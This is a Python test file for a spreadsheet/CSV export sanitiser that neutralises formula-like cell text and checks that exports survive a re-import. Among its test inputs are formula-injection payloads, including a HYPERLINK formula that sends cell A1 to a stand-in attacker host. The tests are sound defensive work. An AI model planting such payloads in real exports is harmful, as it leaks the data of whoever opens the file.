"""safe_cell: text that starts like a formula gets a leading ``'``, characters XML cannot hold go,
every other value keeps its type."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

import techbridge
from techbridge.services.ingest.importing import ImportRequest, check_file
from techbridge.services.reports.cells import append_rows, csv_bytes, safe_cell


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\u0007=1+1", "'=1+1"),  # removed first, then neutralised
        ("광학\u0007 소재\x00\ufffe", "광학 소재"),
        ("line\nbreak\tand tab", "line\nbreak\tand tab"),
        ("a=b, 1-2, x@y", "a=b, 1-2, x@y"),
        ("", ""),
    ],
)
def test_text_is_cleaned_and_never_starts_a_formula(text: str, written: str) -> None:
    assert safe_cell(text) == written


@pytest.mark.parametrize("value", [-5, -2.5, 0, Decimal("-1.5"), True, None, dt.date(2021, 1, 2)])
def test_other_values_keep_their_type(value: object) -> None:
    assert safe_cell(value) is value


def test_a_workbook_holds_the_neutralised_text_as_text() -> None:
    book = Workbook()
    append_rows(book.active, [("name", "amount"), ("=1+1", -5), ("x\u0007", 3)])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(out).active
    assert [[(c.value, c.data_type) for c in line] for line in sheet.iter_rows()] == [
        [("name", "s"), ("amount", "s")],
        [("'=1+1", "s"), (-5, "n")],
        [("x", "s"), (3, "n")],
    ]


def test_a_csv_writes_the_same_cells() -> None:
    written = csv_bytes(["name", "amount"], [("=1+1", -5), ("x\u0007", None)])
    assert list(csv.reader(io.StringIO(written.decode("utf-8")))) == [
        ["name", "amount"],
        ["'=1+1", "-5"],
        ["x", ""],
    ]


def test_every_writer_of_rows_goes_through_cells() -> None:
    """No module writes CSV rows itself; every module that makes a workbook fills it by ``append_rows``."""
    source = Path(techbridge.__file__).parent
    writers: dict[str, str] = {}
    for path in sorted(source.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        name = path.relative_to(source).as_posix()
        if name != "services/reports/cells.py" and ("csv.writer(" in text or "DictWriter(" in text):
            writers[name] = "writes CSV itself"
        if "Workbook(" in text and "append_rows" not in text:
            writers[name] = "fills a workbook itself"
    assert writers == {}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_imported_again_stores_what_was_exported(tmp_path: Path, suffix: str) -> None:
    """The quote the writer puts before a formula is taken away on import (it was kept, one more a trip)."""
    descriptions = [
        '=HYPERLINK("http://evil.example","click")',
        "-5 % 절감",
        "@멘션",
        "'그냥 따옴표'",
        "보통 설명",
    ]
    rows = [(f"기관 {n}", "company", "KR", text) for n, text in enumerate(descriptions)]
    path = tmp_path / f"orgs{suffix}"
    columns = ("name", "kind", "country", "description")
    if suffix == ".csv":
        path.write_bytes(csv_bytes(columns, rows))
    else:
        workbook = Workbook()
        append_rows(workbook.active, [columns, *rows])
        workbook.save(path)
    checked = check_file(ImportRequest("organization", path))
    assert [record.values["description"] for record in checked.records] == descriptions
